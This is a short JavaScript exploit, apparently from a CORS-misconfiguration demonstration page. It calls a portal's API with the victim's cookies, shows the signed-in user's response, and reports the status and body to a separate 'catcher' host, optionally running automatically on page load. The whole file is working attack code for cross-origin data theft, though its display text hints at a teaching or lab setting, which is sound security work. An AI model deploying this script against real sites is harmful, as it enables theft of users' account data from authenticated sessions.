// Asks the portal's API who is signed in, with the victim's cookie, shows what this page may read of
// the answer, and reports it to the catcher.
(() => {
  const reader = document.getElementById("reader");
  const button = reader.querySelector("button");
  const [read, blocked] = ["read", "blocked"].map((id) => document.getElementById(id));
  const { api, catcher, go } = reader.dataset;

  function report(what) {
    const query = new URLSearchParams({ trick: "cors", ...what });
    return fetch(`${catcher}?${query}`, { mode: "no-cors" });
  }

  async function ask() {
    const answer = await fetch(api, { credentials: "include", cache: "no-store" });
    const body = await answer.text();
    const whose = answer.ok ? "It says who you are." : "It says that nobody is signed in.";
    read.querySelector("span").textContent = `${whose} Status ${answer.status}.`;
    read.querySelector("code").textContent = body;
    return { status: answer.status, read: body };
  }

  async function take() {
    button.disabled = true;
    const found = await ask().catch((error) => ({ blocked: error.name }));
    read.hidden = "blocked" in found;
    blocked.hidden = !read.hidden;
    await report(found).catch(() => {});
    button.disabled = false;
    reader.dataset.done = "1";
  }

  button.disabled = false;
  button.addEventListener("click", take);
  if (go) take();
})();
